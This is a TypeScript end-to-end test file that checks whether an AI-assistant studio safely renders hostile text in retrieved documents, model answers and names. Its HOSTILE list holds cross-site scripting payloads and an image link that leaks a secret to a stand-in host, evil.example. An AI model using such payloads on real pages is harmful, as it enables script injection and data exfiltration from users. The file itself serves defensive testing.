import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startUpstream, type Upstream } from '../harness/upstream.ts';
import { collectionOf, serving } from './support/assistants.ts';
import { launchChromium } from './support/chromium.ts';
import { call, demo, useStudio, words } from './support/studio.ts';
import { watch } from './support/watch.ts';

const say = words();
const OUTSIDE = 'https://evil.example';

/** Everything that a page could be made to run or to fetch. */
const HOSTILE = [
  '<script>window.owned = 1</script>',
  '<img src=x onerror="window.owned = 2">',
  '<svg onload="window.owned = 3"><iframe src="javascript:parent.owned = 4"></iframe></svg>',
  `<link rel="stylesheet" href="${OUTSIDE}/style.css"><style>@import url(${OUTSIDE}/more.css)</style>`,
  `![a picture](${OUTSIDE}/pixel.png?secret=the-question)`,
  '[a link](javascript:window.owned=5)',
  `[another link](${OUTSIDE}/login)`,
  `![ref][pixel]\n\n[pixel]: ${OUTSIDE}/reference.png`,
  `<${OUTSIDE}/autolink>`,
  '<form action="javascript:window.owned=6"><button>Press me</button></form>',
  '</div></main><h1>Taken over</h1>',
].join('\n\n');

const SECRET = 'The code word of the harbour is lantern.';

async function ask(page: Page, question: string) {
  await page.getByLabel(say('chat.question'), { exact: true }).fill(question);
  await page.keyboard.press('Enter');
  await page.getByRole('link', { name: say('chat.run'), exact: true }).waitFor();
}

/** What ran, and what of the hostile markup became markup. What was fetched is watched for in every test. */
async function damage(page: Page) {
  return page.evaluate(() => {
    const markup =
      'main :is(script, iframe, form, link, style, img), main :is([onerror], [onload], [onmouseover])';
    const headings = [...document.querySelectorAll('h1')].filter((one) => one.textContent === 'Taken over');
    const links = [...document.querySelectorAll('a')].map((link) => link.href);
    return {
      owned: 'owned' in window,
      elements: [...document.querySelectorAll(markup), ...headings].map((element) => element.outerHTML),
      links: links.filter((href) => !href.startsWith(`${location.origin}/`)),
    };
  });
}

it.skipIf(!demo)('would be seen by every test if a page asked elsewhere', async () => {
  const browser = await launchChromium();
  const page = await browser.newPage();
  const found = watch(page, 'http://localhost', []);
  await page.goto(OUTSIDE).catch(() => undefined);
  await browser.close();
  expect(found()).toContain(`request to ${OUTSIDE}/`);
});

describe.skipIf(!demo)('hostile text', () => {
  const studio = useStudio();
  let upstream: Upstream;
  let provider: { id: string };
  let collection: string;

  beforeAll(async () => {
    upstream = await startUpstream();
    provider = await call('POST', '/api/providers', {
      slug: 'hostile',
      baseUrl: upstream.url,
      apiKey: 'sk-hostile',
    });
    const written = `${SECRET}\n\n${HOSTILE}\n`;
    collection = await collectionOf('<b onmouseover="window.owned = 8">Harbour</b>', {
      // As text it stays as it is; as Markdown and HTML it passes through the parsers.
      '<img src=x onerror=owned=9>.txt': written,
      'harbour.md': `# <script>window.owned = 10</script>\n\n${written}`,
      'harbour.html': `<title><script>window.owned = 11</script></title>${written}`,
    });
    await serving({
      slug: 'harbour',
      name: '<i>Harbour</i>',
      description: HOSTILE.slice(0, 400),
      knowledge: [collection],
    });
    await serving({ slug: 'parrot', name: 'Parrot', model: 'hostile/scripted-1', citations: 'off' });
  });
  afterAll(async () => {
    for (const slug of ['harbour', 'parrot']) await call('DELETE', `/api/apps/${slug}`);
    await call('DELETE', `/api/collections/${collection}`);
    await call('DELETE', `/api/providers/${provider.id}`);
    await upstream.close();
  });

  it('in a document runs nothing and fetches nothing, not in the answer and not in the passage', async () => {
    const page = await studio.open('/assistants/harbour');
    await ask(page, 'What is the code word of the harbour?');
    await page
      .getByRole('article')
      .getByText(/lantern/)
      .first()
      .waitFor();
    await page
      .getByRole('button', { name: /^Open source 1/ })
      .first()
      .click();
    await page.getByRole('complementary').locator('mark').waitFor();
    expect(await damage(page)).toEqual({ owned: false, elements: [], links: [] });
  });

  it('in an answer runs nothing and fetches nothing', async () => {
    upstream.say(HOSTILE);
    const page = await studio.open('/assistants/parrot');
    await ask(page, 'Repeat after me.');
    const answer = page.getByRole('article');
    await answer.getByText(/window\.owned = 1/).waitFor();
    // An address is shown, so that a reader sees where it would lead, and leads nowhere.
    await answer.getByText(`another link (${OUTSIDE}/login)`).waitFor();
    expect(await damage(page)).toEqual({ owned: false, elements: [], links: [] });
  });

  it('in names runs nothing on the other screens', async () => {
    for (const path of [
      '/assistants',
      '/knowledge',
      `/knowledge/${collection}`,
      '/runs',
      '/assistants/harbour/edit',
    ]) {
      const page = await studio.open(path);
      await page.getByRole('heading', { level: 1 }).waitFor();
      await page.waitForLoadState('networkidle');
      expect(await damage(page), path).toEqual({ owned: false, elements: [], links: [] });
    }
  });
});
